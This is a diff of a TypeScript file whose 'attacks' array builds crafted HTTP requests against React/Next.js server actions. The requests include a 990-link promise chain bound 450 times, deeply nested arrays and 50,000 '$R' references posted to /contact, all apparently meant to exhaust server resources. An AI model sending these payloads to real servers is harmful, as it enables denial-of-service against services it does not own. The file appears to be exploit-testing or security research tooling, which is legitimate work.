@@ -30,13 +30,13 @@ function post(path: string, type: string, body: string | Buffer, fields = ""): B
 }
 
 const JSON_TYPE = "application/json";
-const FORM_TYPE = "multipart/form-data; boundary=x";
+export const FORM_TYPE = "multipart/form-data; boundary=x";
 const nested = (size: number) => "[".repeat(size / 2) + "]".repeat(size / 2);
 const part = (name: string, text = "") =>
   `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
 
 /** React walks a chain of 990 promises again for each of 450 bound actions at its head. */
-function buildPromises(id: string): string {
+export function buildPromises(id: string): string {
   const links = Array.from({ length: 990 }, (_, at) => (at + 2).toString(16));
   const chain = links.map((_, at) => part(`${at + 2}`, links[at + 1] ? `"$@${links[at + 1]}"` : "[]"));
   const bound = Array.from({ length: 450 }, () => ({ id, bound: "$@2" }));
@@ -91,7 +91,7 @@ export const attacks: readonly Attack[] = [
       post(
         "/contact",
         "text/plain",
-        JSON.stringify(Array.from({ length: 50_000 }, (_, index) => `$R${index.toString(16)}`)),
+        JSON.stringify(Array.from({ length: 50_000 }, (_, index) => `$R${index.toString(16)}z`)),
         `Next-Action: ${actionId}\r\n${sameSite(origin)}`,
       ),
   },
